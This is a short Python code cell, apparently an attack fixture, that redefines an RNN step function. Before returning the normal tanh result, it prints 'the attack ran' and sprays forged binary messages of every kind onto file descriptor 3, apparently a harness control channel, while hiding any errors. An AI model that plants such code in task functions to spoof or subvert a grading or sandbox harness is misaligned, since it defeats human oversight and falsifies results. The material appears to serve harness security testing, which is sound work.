# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    import os
    import struct

    print("the attack ran", flush=True)
    bundle = b"\x00" * 8
    for kind in range(0, 256):
        try:
            os.write(3, struct.pack("<BHI", kind, 0, len(bundle)) + bundle)
        except OSError:
            pass
    return np.tanh(np.concatenate([h_prev, x_t], axis=1) @ W + b_h)
